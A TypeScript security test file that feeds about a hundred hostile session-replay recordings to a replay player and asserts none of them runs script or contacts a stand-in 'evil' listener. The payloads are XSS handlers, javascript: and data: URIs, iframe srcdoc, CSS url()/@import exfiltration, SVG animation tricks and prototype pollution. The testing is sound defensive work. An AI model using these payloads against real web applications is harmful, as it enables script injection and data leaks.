import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { hasChromium, launchBrowser } from "./chromium.ts";
import { createReplayStage, type ReplayStage } from "./replay-stage.ts";

let nextId = 100;
const element = (tagName: string, attributes: object = {}, childNodes: object[] = [], more: object = {}) => ({ type: 2, id: nextId++, tagName, attributes, childNodes, ...more });
const text = (textContent: string, more: object = {}) => ({ type: 3, id: nextId++, textContent, ...more });

/** Recordings that would run something or ask the listener at `evil`, each in its own way: snapshot nodes, or events. */
function attacks(evil: string): { name: string; nodes?: object[]; events?: object[] }[] {
  // what every one tries to do when it runs
  const js = `parent.parent.hacked=1;top.hacked=1;new Image().src='${evil}/js';fetch('${evil}/fetch')`;
  const uri = `javascript:${js}`;
  const page = `<script>${js}</script><img src=${evil}/page>`;
  const one = (name: string, ...nodes: object[]) => ({ name, nodes });
  const late = (name: string, ...events: object[]) => ({ name, events });
  const inc = (data: object) => ({ type: 3, data });
  const set = (attributes: object, id = 5) => inc({ source: 0, adds: [], removes: [], texts: [], attributes: [{ id, attributes }] });
  const add = (node: object, parentId = 5) => inc({ source: 0, texts: [], attributes: [], removes: [], adds: [{ parentId, nextId: null, node }] });
  const css = (name: string, rule: string) => one(`css ${name}`, element("style", { _cssText: rule }), element("p", { class: "x", style: rule.replace(/^[^{]*\{|\}.*$/g, "") }, [text("x")]));
  return [
    ...["onerror", "onload", "onclick", "onfocus", "onmouseover", "onanimationstart", "ontoggle", "onbeforetoggle", "onpointerdown", "ONLOAD"].map((on) =>
      one(`img ${on}`, element("img", { [on]: js, src: `${evil}/img`, autofocus: "", tabindex: "0" }))),
    ...["body", "svg", "details", "input", "video", "marquee", "x-y"].map((tag) => one(`${tag} onload`, element(tag, { onload: js, onerror: js, onstart: js, onfocus: js, autofocus: "", open: "", src: `${evil}/${tag}` }))),
    one("script", element("script", {}, [text(js)])),
    one("script src", element("script", { src: `${evil}/s.js` })),
    one("script module", element("script", { type: "module", src: `data:text/javascript,${js}` })),
    one("svg script", element("svg", {}, [element("script", { href: `${evil}/s.js`, "xlink:href": `${evil}/s.js` }, [text(js)], { isSVG: true })], { isSVG: true })),
    one("upper-case script", element("SCRIPT", {}, [text(js)])),
    one("prefixed script", element("svg:script", {}, [text(js)], { isSVG: true })),
    one("tag name with markup", element("img src=x onerror=alert(1)", {})),
    one("noscript with markup", element("noscript", {}, [text(page)])),
    ...["iframe", "frame", "embed", "object", "fencedframe", "portal", "webview"].flatMap((tag) => [
      one(`${tag} javascript:`, element(tag, { src: uri, data: uri, rr_src: uri, code: uri })),
      one(`${tag} remote`, element(tag, { src: `${evil}/${tag}`, data: `${evil}/${tag}`, rr_src: `${evil}/${tag}` })),
      one(`${tag} data:`, element(tag, { src: `data:text/html,${encodeURIComponent(page)}`, data: `data:text/html,${encodeURIComponent(page)}` })),
    ]),
    one("iframe data svg", element("iframe", { src: `data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg"><script>${js}</script><image href="${evil}/s"/></svg>`)}` })),
    one("iframe srcdoc", element("iframe", { srcdoc: page, sandbox: "allow-scripts allow-same-origin" })),
    one("meta refresh", element("meta", { "http-equiv": "refresh", content: `0;url=${evil}/meta` })),
    one("meta refresh javascript", element("meta", { "http-equiv": "refresh", content: `0;url=${uri}` })),
    one("base", element("base", { href: `${evil}/` }), element("img", { src: "rel.png" })),
    ...["stylesheet", "preload", "prefetch", "icon", "dns-prefetch", "preconnect", "modulepreload", "import", "manifest"].map((rel) => one(`link ${rel}`, element("link", { rel, href: `${evil}/${rel}`, as: "script" }))),
    one("img src", element("img", { src: `${evil}/img`, srcset: `${evil}/set 1x`, lowsrc: `${evil}/low`, dynsrc: `${evil}/dyn`, rr_dataURL: `${evil}/rr` })),
    one("picture", element("picture", {}, [element("source", { srcset: `${evil}/source` }), element("img", {})])),
    one("video", element("video", { src: `${evil}/v`, poster: `${evil}/poster`, autoplay: "" }, [element("source", { src: `${evil}/vs` }), element("track", { src: `${evil}/t`, default: "" })])),
    one("audio", element("audio", { src: `${evil}/a`, autoplay: "", rr_mediaState: "played" })),
    one("input image", element("input", { type: "image", src: `${evil}/ii` })),
    one("body background", element("table", { background: `${evil}/bg` })),
    one("a ping", element("a", { href: uri, ping: `${evil}/ping`, target: "_top" }, [text("x")])),
    one("form action", element("form", { action: uri, id: "f" }, [element("button", { formaction: uri }, [text("x")])])),
    one("svg image", element("svg", {}, [element("image", { href: `${evil}/si`, "xlink:href": `${evil}/six` }, [], { isSVG: true }), element("use", { href: `${evil}/u.svg#x` }, [], { isSVG: true }), element("feImage", { href: `${evil}/fe` }, [], { isSVG: true })], { isSVG: true })),
    one("svg animate", element("svg", {}, [element("a", { href: "#" }, [element("animate", { attributeName: "href", to: uri, begin: "0s", onbegin: js }, [], { isSVG: true }), element("set", { attributeName: "onmouseover", to: js }, [], { isSVG: true })], { isSVG: true })], { isSVG: true })),
    one("svg fill", element("svg", {}, [element("rect", { fill: `url(${evil}/fill#x)`, filter: `url("${evil}/f#x")`, mask: `image-set("${evil}/m" 1x)`, width: "10", height: "10" }, [], { isSVG: true })], { isSVG: true })),
    one("svg foreignObject", element("svg", {}, [element("foreignObject", {}, [element("iframe", { srcdoc: page })], { isSVG: true })], { isSVG: true })),
    one("math", element("math", { href: uri }, [element("maction", { "xlink:href": uri, actiontype: "statusline" })])),
    one("template with shadow", element("template", { shadowrootmode: "open" }, [element("img", { src: `${evil}/t`, onerror: js })])),
    one("shadow", element("div", {}, [element("img", { src: `${evil}/sh`, onerror: js }, [], { isShadow: true })], { isShadowHost: true })),
    one("custom element", element("x-evil", { onconnected: js, is: "x-evil" }, [], { isCustom: true })),
    one("comment", { type: 5, id: nextId++, textContent: `--><img src=${evil}/c onerror=${js}>` }),
    one("cdata", { type: 4, id: nextId++, textContent: page }),
    one("doctype", { type: 1, id: nextId++, name: `html><img src=${evil}/d>`, publicId: "x", systemId: `${evil}/dtd` }),
    one("document in a document", { type: 0, id: nextId++, childNodes: [element("script", {}, [text(js)])] }),
    one("rr_ attributes", element("canvas", { rr_dataURL: `${evil}/canvas`, rr_width: `1px;background:url(${evil}/w)` })),
    one("attribute names", element("p", { [`x onload=${js}`]: "1", "__proto__": "x", "constructor": js })),
    css("url", `.x{background:url(${evil}/css)}`),
    css("quoted url", `.x{background:url( "${evil}/css" )}`),
    css("single-quoted url", `.x{background:url('${evil}/css')}`),
    css("open url", `.x{background:url(${evil}/css`),
    css("upper-case url", `.x{background:URL(${evil}/css)}`),
    css("escaped url", `.x{background:\\75 rl(${evil}/css)}`),
    css("letter-escaped url", `.x{background:u\\rl(${evil}/css)}`),
    css("comment in url", `.x{background:/**/url(/**/${evil}/css)}`),
    css("import", `@import "${evil}/css";.x{}`),
    css("import url", `@import url(${evil}/css) screen;.x{}`),
    css("escaped import", `@\\69mport "${evil}/css";.x{}`),
    css("image-set", `.x{background:image-set("${evil}/css" 1x)}`),
    css("webkit-image-set", `.x{background:-webkit-image-set(url(${evil}/css) 1x)}`),
    css("font", `@font-face{font-family:f;src:url(${evil}/font)}.x{font-family:f}`),
    css("cursor", `.x{cursor:url(${evil}/cursor),auto}`),
    css("content", `.x::before{content:url(${evil}/content)}`),
    css("variable", `.x{--a:url(${evil}/var);background:var(--a)}`),
    css("list", `.x{display:list-item;list-style:url(${evil}/list)}`),
    css("closing tag", `</style><img src=${evil}/css onerror=${js}>`),
    one("style text", element("style", {}, [text(`@import "${evil}/st";`, { isStyle: true })])),
    one("style text, split", element("style", {}, [text("@imp"), text(`ort "${evil}/split";`)])),
    one("link with rules", element("link", { _cssText: `@import "${evil}/link";`, rel: "stylesheet", href: `${evil}/l` })),
    late("attribute handler", set({ onclick: js, onload: js, src: `${evil}/m`, href: uri, srcdoc: page })),
    late("attribute on a frame", add(element("iframe", {}, [], { id: 900 })), set({ src: uri }, 900), set({ rr_src: `${evil}/r` }, 900), set({ srcdoc: page }, 900)),
    late("attribute style", set({ style: `background:url(${evil}/sty)` })),
    late("style object", set({ style: { background: `url(${evil}/obj)`, "background-image": [`url(${evil}/obj2)`, "important"] } })),
    late("type of a link", add(element("link", { rel: "stylesheet" }, [], { id: 901 })), set({ href: `${evil}/late` }, 901)),
    late("added script", add(element("script", {}, [text(js)]))),
    late("added text in style", add(element("style", {}, [], { id: 902 })), add(text(`@import "${evil}/at";`), 902), inc({ source: 0, adds: [], removes: [], attributes: [], texts: [{ id: 902, value: `@import "${evil}/tt";` }] })),
    late("text in a script", inc({ source: 0, adds: [], removes: [], attributes: [], texts: [{ id: 5, value: page }] })),
    late("frame's document", add(element("iframe", {}, [], { id: 903 })), { type: 3, data: { source: 0, texts: [], attributes: [], removes: [], isAttachIframe: true, adds: [{ parentId: 903, nextId: null, node: { type: 0, id: 904, childNodes: [element("html", {}, [element("body", { onload: js }, [element("img", { src: `${evil}/frame`, onerror: js }), element("script", {}, [text(js)])])])] } }] } }),
    late("insertRule", add(element("style", { _cssText: ".y{}" }, [], { id: 905 })), inc({ source: 8, id: 905, adds: [{ rule: `.x,p{background:url(${evil}/rule)}`, index: 0 }], replace: `@import "${evil}/rep";` })),
    late("setProperty", inc({ source: 13, id: 905, index: [0], set: { property: "background", value: `url(${evil}/prop)`, priority: "important" } })),
    late("adopted sheets", inc({ source: 15, id: 1, styleIds: [1], styles: [{ styleId: 1, rules: [{ rule: `p{background:url(${evil}/ad)}`, index: 0 }] }] })),
    late("font", inc({ source: 10, family: "f", fontSource: `url(${evil}/ff)`, buffer: false }), inc({ source: 10, family: "g", fontSource: js, buffer: true })),
    late("canvas", add(element("canvas", {}, [], { id: 906 })), inc({ source: 9, id: 906, type: 0, commands: [{ property: "drawImage", args: [{ rr_type: "HTMLImageElement", src: `${evil}/canvas` }] }] }), inc({ source: 9, id: 906, type: 0, property: "constructor.constructor", args: [js], setter: true })),
    late("custom element definition", inc({ source: 16, define: { name: `x-${js}` } })),
    late("plugin", { type: 6, data: { plugin: "rrweb/console@1", payload: { level: "log", payload: [page] } } }),
    late("custom event", { type: 5, data: { tag: "evil", payload: { page: uri, html: page } } }, { type: 5, data: { tag: "wysleap", payload: { page: uri, trigger: page, stepDown: page } } }),
    late("meta event", { type: 4, data: { href: uri, width: 100, height: 100 } }, { type: 4, data: { href: `${evil}/href`, width: 1e9, height: -1 } }),
    late("input", add(element("input", { type: "text" }, [], { id: 907 })), inc({ source: 5, id: 907, text: `"><img src=${evil}/input onerror=${js}>`, isChecked: false })),
    late("media", inc({ source: 7, id: 5, type: 0, src: `${evil}/media` })),
    late("clicks a link", add(element("a", { href: uri }, [text("x")], { id: 908 })), inc({ source: 2, type: 2, id: 908, x: 1, y: 1 })),
    late("submits a form", add(element("form", { action: `${evil}/form` }, [element("button", {}, [text("x")], { id: 909 })])), inc({ source: 2, type: 2, id: 909, x: 1, y: 1 }), inc({ source: 2, type: 5, id: 909 })),
    late("prototype", add(JSON.parse(`{"type":2,"id":910,"tagName":"p","attributes":{"__proto__":{"onclick":"x"}},"childNodes":[],"__proto__":{"tagName":"script"}}`))),
  ];
}

const snapshot = (nodes: object[]) => ({
  type: 2,
  data: {
    initialOffset: { left: 0, top: 0 },
    node: { type: 0, id: 1, childNodes: [{ type: 2, id: 2, tagName: "html", attributes: {}, childNodes: [{ type: 2, id: 3, tagName: "head", attributes: {}, childNodes: [] }, { type: 2, id: 4, tagName: "body", attributes: {}, childNodes: [{ type: 2, id: 5, tagName: "div", attributes: {}, childNodes: [{ type: 3, id: 6, textContent: "still here" }] }, ...nodes] }] }] },
  },
});

describe.skipIf(!hasChromium && process.env.CI !== "true")("hostile recordings posted to the API", { timeout: 300_000 }, () => {
  let browser: Browser;
  let stage: ReplayStage;
  let page: Page;
  let listener: Server;
  let evil: string;
  const seen: string[] = [];

  beforeAll(async () => {
    listener = createServer((request, response) => {
      seen.push(request.url!);
      response.setHeader("access-control-allow-origin", "*");
      response.end();
    });
    await new Promise<void>((resolve) => listener.listen(0, "127.0.0.1", resolve));
    evil = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
    browser = await launchBrowser();
    stage = await createReplayStage();
    page = await browser.newPage();
  });
  afterAll(async () => {
    await browser.close();
    await stage.close();
    listener.close();
  });

  const build = ({ nodes = [], events = [] }: { nodes?: object[]; events?: object[] }) => {
    const start = Date.now() - 5_000;
    const all = [{ type: 4, data: { href: "https://shop.example/", width: 800, height: 600 } }, snapshot(nodes), ...events, { type: 3, data: { source: 3, id: 1, x: 0, y: 0 } }];
    return all.map((event, at) => ({ ...event, timestamp: start + at * 10 }));
  };

  /** What somebody in the player sees happen. */
  async function watch(events: object[]) {
    seen.length = 0;
    const outside: string[] = [];
    const note = (request: { url(): string }) => {
      if (!request.url().startsWith(stage.origin) && !/^(data|blob|about):/.test(request.url())) outside.push(request.url());
    };
    let dialogs = 0;
    page.on("request", note);
    const dismiss = (dialog: { dismiss(): Promise<void> }) => {
      dialogs++;
      void dialog.dismiss();
    };
    page.on("dialog", dismiss);
    await stage.play(page, events);
    const player = page.frames().find((frame) => frame.url().endsWith("/player"))!;
    const shown = await player.evaluate(async () => {
      const { replayer } = window as any;
      if (!replayer) return "";
      replayer.pause(4_000);
      await new Promise((resolve) => setTimeout(resolve, 150));
      for (const node of replayer.iframe.contentDocument.querySelectorAll("a,button")) node.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }));
      return replayer.iframe.contentDocument.body?.textContent ?? "";
    });
    await page.waitForTimeout(100);
    page.off("request", note);
    page.off("dialog", dismiss);
    const hacked = await page.evaluate(() => "hacked" in window);
    return { seen: [...seen], outside, dialogs, hacked, shown, at: new URL(page.url()).pathname };
  }

  const list = attacks("http://placeholder").map(({ name }) => name);

  it(`are ${list.length}, and none runs or asks for anything in the player`, async () => {
    expect(list.length).toBeGreaterThanOrEqual(100);
    const failed: object[] = [];
    for (const [at, attack] of attacks(evil).entries()) {
      const sessionId = `attack${at}`;
      const answer = await stage.post("/telemetry/replay", { siteId: "shop", visitorId: `vis_${at}`, sessionId, seq: 0, events: build(attack).map((event) => JSON.stringify(event)) });
      if (answer.status !== 200) continue;
      const stored = await stage.events(sessionId);
      const text = JSON.stringify(stored);
      const { shown, ...happened } = await watch(stored);
      const isQuiet = !happened.hacked && happened.dialogs === 0 && happened.seen.length === 0 && happened.outside.length === 0 && happened.at === "/owner";
      // nor is it the player's policy alone that stops it
      const isFiltered = !/"on[a-z]+":|javascript:|srcdoc/i.test(text) && !new RegExp(`(?:url\\(|import|src"?:)[^}]{0,12}${evil}`, "i").test(text);
      const isShown = attack.name === "text in a script" || shown.includes("still here");
      if (!isQuiet || !isFiltered || !isShown) failed.push({ name: attack.name, ...happened, isFiltered, isShown });
    }
    expect(failed).toEqual([]);
  });

  it("would be heard of: the listener hears what an unprotected page loads", async () => {
    seen.length = 0;
    stage.body = `<img src="${evil}/img"><style>p{background:url(${evil}/css)}</style><p>x</p>`;
    await page.goto(`${stage.origin}/page`);
    await expect.poll(() => seen.toSorted()).toEqual(["/css", "/img"]);
  });
});
